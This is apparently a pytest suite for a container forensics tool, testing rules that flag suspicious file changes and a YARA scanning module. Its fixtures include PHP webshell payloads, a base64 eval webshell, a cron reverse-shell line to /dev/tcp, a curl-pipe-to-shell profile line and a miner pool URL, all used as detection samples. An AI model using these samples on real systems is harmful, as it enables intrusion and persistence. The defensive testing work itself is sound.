"""The suspicious-change rule table on small fixtures, and the YARA folder."""

from __future__ import annotations

import fnmatch
import os
import random
import stat
import tempfile
import threading
from pathlib import Path

import pytest

from forensics import tools
from forensics.containers import yarascan
from forensics.containers.checks import CHECKS, Candidate, Matcher
from forensics.host.rootfs import RootFS
from forensics.records import NotAvailable
from forensics.rules.container_changes import RULES

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
REG = stat.S_IFREG


def cand(path: bytes, kind: str = "A", mode: int = REG | 0o644, size: int = 10, ftype: str = "file",
         original_mode: int | None = None, original_size: int | None = None) -> Candidate:  # fmt: skip
    return Candidate(kind, path, ftype, mode, size, original_mode, original_size)


# One change (and the file's first bytes) that each rule must flag. A new row in the table
# without a fixture here fails test_every_rule_has_a_fixture.
FIRES: dict[str, tuple[Candidate, bytes]] = {
    "persistence.ld-preload": (cand(b"/etc/ld.so.preload"), b"/lib/x.so\n"),
    "persistence.ld-config": (cand(b"/etc/ld.so.conf.d/evil.conf"), b"/tmp\n"),
    "persistence.cron": (cand(b"/etc/cron.d/job"), b"* * * * * root sh\n"),
    "persistence.service": (cand(b"/etc/systemd/system/x.service", "C", original_mode=REG | 0o644), b""),
    "persistence.shell-profile": (cand(b"/etc/profile.d/x.sh"), b"curl x|sh\n"),
    "persistence.shell-rc": (cand(b"/home/bob/.bashrc", "C", original_mode=REG | 0o644), b"alias"),
    "persistence.authorized-keys": (cand(b"/root/.ssh/authorized_keys"), b"ssh-ed25519 AAAA"),
    "persistence.sshd": (
        cand(b"/etc/ssh/sshd_config", "C", original_mode=REG | 0o644),
        b"PermitRootLogin yes",
    ),
    "persistence.pam": (cand(b"/lib/x86_64-linux-gnu/security/pam_evil.so"), ELF),
    "accounts.files": (cand(b"/etc/shadow", "D", original_mode=REG | 0o640), b""),
    "webshell.pattern": (cand(b"/var/www/html/up.php"), b"<?php @eval($_POST['c']); ?>"),
    "webshell.script": (cand(b"/usr/share/nginx/html/info.php"), b"<?php phpinfo(); ?>"),
    "exec.elf-in-tmp": (cand(b"/dev/shm/x", mode=REG | 0o755), ELF),
    "exec.elf": (cand(b"/usr/local/bin/kworker", mode=REG | 0o755), ELF),
    "exec.script-in-tmp": (cand(b"/var/tmp/run.sh", mode=REG | 0o755), b"#!/bin/sh\n"),
    "exec.script": (cand(b"/usr/local/bin/helper", mode=REG | 0o755), b"#!/usr/bin/env python3\n"),
    "exec.setuid": (cand(b"/usr/bin/find", "C", mode=REG | 0o4755, original_mode=REG | 0o755), ELF),
    "names.odd": (cand(b"/usr/lib/ \xe2\x80\xae"), b""),
    "names.hidden": (cand(b"/usr/bin/.sshd"), ELF),
    "packages.database": (cand(b"/var/lib/dpkg/status", "C", original_mode=REG | 0o644), b""),
    "logs.cleared": (
        cand(b"/root/.bash_history", "C", size=0, original_mode=REG | 0o600, original_size=900),
        b"",
    ),
}

# Changes that must NOT be flagged by the rule named.
QUIET: list[tuple[str, Candidate, bytes]] = [
    ("exec.elf", cand(b"/tmp/x", mode=REG | 0o755), ELF),  # elf-in-tmp covers it
    ("exec.elf", cand(b"/usr/bin/tool"), b"#!/bin/sh"),
    ("webshell.pattern", cand(b"/var/www/html/index.php"), b"<?php echo 'hello'; ?>"),
    ("webshell.script", cand(b"/var/www/html/s.php"), b"<?php system($_GET['c']); ?>"),  # superseded
    ("webshell.script", cand(b"/var/www/html/style.css"), b"body{}"),
    ("names.hidden", cand(b"/.dockerenv"), b""),
    ("names.hidden", cand(b"/home/bob/.vimrc"), b""),
    ("names.odd", cand(b"/etc/normal-name.conf"), b""),
    ("names.odd", cand(b"/home/bob/My Documents"), b""),  # a space, but in a user's own place
    ("exec.setuid", cand(b"/usr/bin/passwd", "C", mode=REG | 0o4755, original_mode=REG | 0o4755), ELF),
    ("exec.setuid", cand(b"/var/mail/x", mode=REG | 0o2644), b""),  # setgid without g+x: locking
    (
        "logs.cleared",
        cand(b"/var/log/app.log", "C", size=2000, original_mode=REG | 0o644, original_size=1000),
        b"",
    ),
    ("persistence.shell-rc", cand(b"/etc/skel/.bashrc"), b""),
    ("persistence.cron", cand(b"/etc/cron.d/job", "D", original_mode=REG | 0o644), b""),
    ("accounts.files", cand(b"/etc/passwd-", "C", original_mode=REG | 0o644), b""),
]


def flagged(c: Candidate, head: bytes) -> set[str]:
    matcher = Matcher()
    return {r.id for r in matcher.matches(c, matcher.plan(c), head)}


def test_every_rule_has_a_fixture() -> None:
    assert {r.id for r in RULES} == set(FIRES)
    assert len({r.id for r in RULES}) == len(RULES), "rule ids must be unique"


@pytest.mark.parametrize("rule_id", sorted(FIRES))
def test_rule_fires(rule_id: str) -> None:
    candidate, head = FIRES[rule_id]
    assert rule_id in flagged(candidate, head)


@pytest.mark.parametrize(
    ("rule_id", "candidate", "head"), QUIET, ids=[f"{r}:{c.path!r}" for r, c, _ in QUIET]
)
def test_rule_stays_quiet(rule_id: str, candidate: Candidate, head: bytes) -> None:
    assert rule_id not in flagged(candidate, head)


@pytest.mark.parametrize(
    "name", [b"/tmp/a b", b"/usr/bin/ls ", b"/bin/\xe2\x80\x8bsh", b"/tmp/. .", b"/x/..."]
)
def test_odd_names(name: bytes) -> None:
    assert "names.odd" in flagged(cand(name), b"")


def test_content_is_asked_for_only_when_a_rule_wants_it() -> None:
    matcher = Matcher()
    config = cand(b"/etc/app.conf")
    assert matcher.plan(config).window == 4  # the ELF magic; "#!" needs only 2
    assert matcher.plan(cand(b"/etc/app.conf", "D")).window == 0
    assert matcher.plan(cand(b"/var/www/a.php")).window == 256 * 1024


def test_rule_table_refers_to_known_checks() -> None:
    assert {r.check for r in RULES if r.check} <= set(CHECKS)
    for rule in RULES:
        assert set(rule.kinds) <= set("ACD") and rule.kinds
        rule.pattern()  # compiles


# ---- YARA -------------------------------------------------------------------------------

YARA_FIXTURES = {
    "webshell_php_request_eval": b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>",
    "webshell_php_obfuscated_eval": b"<?php eval(base64_decode('ZWNobyAxOw==')); ?>",
    "reverse_shell_dev_tcp": b"* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    "miner_stratum_pool": b'{"url": "stratum+tcp://pool.example.net:3333"}',
    "tool_privesc_enumeration": b"#!/bin/sh\n# linpeas - PEASS-ng\n",
}


@pytest.fixture()
def yara_tree(tmp_path: Path) -> Path:
    top = tmp_path / "upper"
    top.mkdir()
    for name, data in YARA_FIXTURES.items():
        (top / name).write_bytes(data)
        os.utime(top / name, ns=(1_000_000_000, 2_000_000_000))  # atime older than mtime
    (top / "clean").write_bytes(b"nothing to see")
    os.symlink("/etc/shadow", top / "link")
    os.mkfifo(top / "fifo")
    return top


def _need_yara() -> None:
    if isinstance(tools.which("yara"), NotAvailable):
        pytest.skip("yara is not installed (apt-get install yara)")


def test_yara_rules_match_their_fixtures_without_touching_atime(yara_tree: Path) -> None:
    _need_yara()
    paths = [b"/" + n.encode() for n in (*YARA_FIXTURES, "clean", "link", "fifo", "missing")]
    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
    assert result.status == "ran", result.errors
    found = {(m.path.decode(), m.rule) for m in result.matches}
    for rule in YARA_FIXTURES:
        assert (f"/{rule}", rule) in found
    assert not any(path == "/clean" for path, _ in found)
    skipped = {p for p, _why in result.not_scanned}
    assert skipped == {b"/link", b"/fifo", b"/missing"}  # never followed, never opened, absent
    for name in YARA_FIXTURES:
        assert (yara_tree / name).stat().st_atime_ns == 1_000_000_000


def test_every_yara_file_compiles() -> None:
    _need_yara()
    files = yarascan.rule_files()
    assert files, "the YARA folder is empty"
    binary = tools.which("yara")
    assert isinstance(binary, str)
    for rule_file in files:
        run = tools.run([binary, "--no-warnings", str(rule_file), "/dev/null"], timeout=30)
        assert run.ok, f"{rule_file.name}: {run.describe()}"


def test_yara_absent_is_a_recorded_skip(yara_tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        tools, "which", lambda name, forbidden_root=None: NotAvailable(f"{name} is not on PATH")
    )
    result = yarascan.scan(RootFS(yara_tree), [b"/clean"], forbidden_root="/")
    assert result.status == "skipped" and "not on PATH" in result.reason


def test_yara_reads_files_in_many_directories_and_no_link_leads_it_out(
    yara_tree: Path, tmp_path: Path
) -> None:
    _need_yara()
    outside = tmp_path / "outside"
    outside.mkdir()
    rule, data = next(iter(YARA_FIXTURES.items()))
    (outside / "payload").write_bytes(data)
    for folder in ("a", "a/b", "c"):
        (yara_tree / folder).mkdir()
        (yara_tree / folder / "payload").write_bytes(data)
    os.symlink(outside, yara_tree / "out")  # absolute: inside the root it leads nowhere
    os.symlink("../" * 12 + str(outside).lstrip("/"), yara_tree / "climb")
    paths = [b"/a/payload", b"/a/b/payload", b"/c/payload", b"/out/payload", b"/climb/payload", b"/a/b/none"]
    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
    assert {m.path for m in result.matches if m.rule == rule} == {
        b"/a/payload",
        b"/a/b/payload",
        b"/c/payload",
    }
    assert {p for p, _why in result.not_scanned} == {b"/out/payload", b"/climb/payload", b"/a/b/none"}


def test_yara_batches(yara_tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _need_yara()
    monkeypatch.setattr(yarascan, "BATCH_FILES", 2)
    paths = [b"/" + n.encode() for n in YARA_FIXTURES]
    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
    assert result.batches == 3 and result.files == len(YARA_FIXTURES)
    assert len({m.path for m in result.matches}) == len(YARA_FIXTURES)


def test_yara_runs_beside_the_copying_of_the_next_batch(
    yara_tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each batch's yara run is waited for in a side thread while the next batch is copied;
    the memfds of a batch are open while yara reads them, and none is left open after."""
    _need_yara()
    monkeypatch.setattr(yarascan, "BATCH_FILES", 2)
    real_run = yarascan.tools.run
    seen: list[tuple[str, bool]] = []

    def run(argv: list[str], timeout: float, stdin: bytes = b"") -> object:
        named = [line.decode() for line in stdin.splitlines()]
        seen.append((threading.current_thread().name, all(os.path.exists(n) for n in named)))
        return real_run(argv, timeout=timeout, stdin=stdin)

    monkeypatch.setattr(yarascan.tools, "run", run)
    before = set(os.listdir("/proc/self/fd"))
    paths = [b"/" + n.encode() for n in YARA_FIXTURES]
    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
    assert result.batches == 3 and len({m.path for m in result.matches}) == len(YARA_FIXTURES)
    batches = [s for s in seen if s[0] != "MainThread"]  # the yarac run is the caller's own
    assert len(batches) == 3 and all(name.startswith("yara") and open_ for name, open_ in batches), seen
    assert set(os.listdir("/proc/self/fd")) == before


def test_yara_rules_are_compiled_once_when_yarac_is_there(yara_tree: Path) -> None:
    _need_yara()
    if isinstance(tools.which("yarac"), NotAvailable):
        pytest.skip("yarac is not installed (it comes with yara)")
    paths = [b"/" + n.encode() for n in YARA_FIXTURES]
    result = yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree))
    compiled = result.argv[result.argv.index("-C") + 1]
    assert not os.path.exists(compiled), "the compiled rules are removed after the scan"
    assert len({m.path for m in result.matches}) == len(YARA_FIXTURES)


def test_prepared_rules_are_compiled_once_for_many_scans(
    yara_tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _need_yara()
    if isinstance(tools.which("yarac"), NotAvailable):
        pytest.skip("yarac is not installed (it comes with yara)")
    real = tools.run
    ran: list[str] = []

    def counting(argv: list[str], *args: object, **kw: object) -> tools.ToolRun:
        ran.append(os.path.basename(argv[0]))
        return real(argv, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(tools, "run", counting)
    paths = [b"/" + n.encode() for n in YARA_FIXTURES]
    with yarascan.prepared(str(yara_tree)) as rules:
        scans = [yarascan.scan(RootFS(yara_tree), paths, forbidden_root=str(yara_tree), rules=rules)
                 for _ in range(3)]  # fmt: skip
        compiled = rules.rules_argv[1]
        assert os.path.isfile(compiled)
    assert ran.count("yarac") == 1 and ran.count("yara") == 3
    assert not os.path.exists(compiled), "the compiled rules are removed after the with"
    for result in scans:
        assert result.status == "ran" and compiled in result.argv
        assert len({m.path for m in result.matches}) == len(YARA_FIXTURES)
    # nothing to scan: no compile at all
    ran.clear()
    assert yarascan.scan(RootFS(yara_tree), [], forbidden_root=str(yara_tree)).status == "skipped"
    assert ran == []


def test_without_a_place_for_compiled_rules_each_run_compiles_them(
    yara_tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _need_yara()
    monkeypatch.setattr(tempfile, "tempdir", str(yara_tree / "no such directory"))
    result = yarascan.scan(RootFS(yara_tree), [b"/clean"], forbidden_root=str(yara_tree))
    assert result.status == "ran" and "-C" not in result.argv
    assert any("no temporary directory" in e for e in result.errors)


def test_rules_yarac_cannot_compile_are_compiled_by_each_run(yara_tree: Path, tmp_path: Path) -> None:
    """yarac failing while yara works (a full disk under the temporary directory, say)
    cannot be produced here: a stand-in for ``tools.run`` answers for yarac alone."""
    _need_yara()
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "one.yar").write_text('rule clean_file { strings: $a = "nothing to see" condition: $a }\n')
    real = tools.run
    seen: list[list[str]] = []

    def failing_yarac(argv: list[str], *args: object, **kw: object) -> tools.ToolRun:
        seen.append(list(argv))
        if os.path.basename(argv[0]) == "yarac":
            return tools.ToolRun(list(argv), 1, b"", b"error: out of disk", 0.0)
        return real(argv, *args, **kw)  # type: ignore[arg-type]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tools, "which", lambda name, forbidden_root=None: f"/usr/bin/{name}")
        patch.setattr(tools, "run", failing_yarac)
        result = yarascan.scan(RootFS(yara_tree), [b"/clean"], forbidden_root="/", rules_dir=rules)
    assert result.status == "ran" and [m.rule for m in result.matches] == ["clean_file"]
    assert "-C" not in result.argv and str(rules / "one.yar") in result.argv
    assert any("yarac could not compile" in e for e in result.errors)


GLOB_PATHS = [
    "/etc/passwd", "/etc/passwd-", "/etc/cron.d/job", "/etc/crontab", "/etc/cron.daily", "/root/.bashrc",
    "/home/u/.ssh/authorized_keys", "/home/u/.ssh/authorized_keys2", "/var/www/html/a.php", "/srv", "/srv/x",
    "/tmp/x", "/tmp", "/var/tmp/.x", "/etc/rc3.d/S01x", "/etc/rcS.d/x", "/etc/rc7.d/x", "/x/htdocs/y", "/htdocs/",
    "/b/public_html/i.php", "/usr/lib/x86_64-linux-gnu/security/pam_x.so", "/lib/security/a",
    "/etc/ssh/ssh_host_rsa_key", "/etc/s6-overlay/x", "/opt/app/webapps/ROOT/x.jsp", "/opt/webapps/x",
    "/var/spool/cron/crontabs/root", "/etc/ld.so.preload", "/etc/ld.so.conf.d/a.conf", "/a/.config/fish/config.fish",
    "/a/.config/systemd/user/x.service", "/a\nb/.bashrc", "/etc/profile.d/x.sh", "/var/log/a", "/.bash_history",
    "/data/d3/f3456", "", "/", "*", "/etc/skel/.bashrc", "/x.bashrc", "/\udcff/.viminfo",
]  # fmt: skip


def test_globsets_match_exactly_as_fnmatch_does() -> None:
    """Each glob of the table, and each rule's list as one set, against fnmatch (``*``
    crosses ``/``) over paths that sit on and beside every kind of glob."""
    from forensics.rules.globs import GlobSet

    lists = [r.paths for r in RULES] + [r.exclude for r in RULES if r.exclude]
    for globs in lists + [(g,) for globs in lists for g in globs]:
        found = GlobSet(globs)
        for path in GLOB_PATHS:
            assert found.match(path) == any(fnmatch.fnmatchcase(path, g) for g in globs), (globs, path)


def test_globsets_decide_per_directory_as_fnmatch_does() -> None:
    """A GlobSet works out once per directory what its globs say of the names there.
    Random globs of every shape (wildcards, classes, "/" anywhere) against random paths,
    each set asked for many paths that share directories, against fnmatch itself."""
    from forensics.rules.globs import GlobSet

    rng = random.Random(20261126)
    shapes = ["/a/*", "*/b", "*/a/*", "/a/b.*", "/a/b", "*.b", "*a*", "/a*/b/*", "*/a", "/*/b/*", "*/a/b*"]
    for _ in range(2500):
        globs = [
            "".join(rng.choice("/ab.*?[]!") for _ in range(rng.randint(0, 7)))
            for _ in range(rng.randint(1, 3))
        ]
        globs.append(rng.choice(shapes))
        found = GlobSet(globs)
        for _ in range(12):
            path = "".join(rng.choice("/ab.") for _ in range(rng.randint(0, 9)))
            assert found.match(path) == any(fnmatch.fnmatchcase(path, g) for g in globs), (globs, path)


def test_a_huge_directory_is_matched_whole_and_not_kept() -> None:
    from forensics.rules.globs import MAX_PARENT, GlobSet

    globs = ["*/.bashrc", "/a/*", "*a/b*"]
    found = GlobSet(globs)
    for path in ["/a" * MAX_PARENT + "/.bashrc", "/b" * MAX_PARENT + "/x", "/a" * MAX_PARENT + "/bc"]:
        assert found.match(path) == any(fnmatch.fnmatchcase(path, g) for g in globs)
    assert found._parents == {}
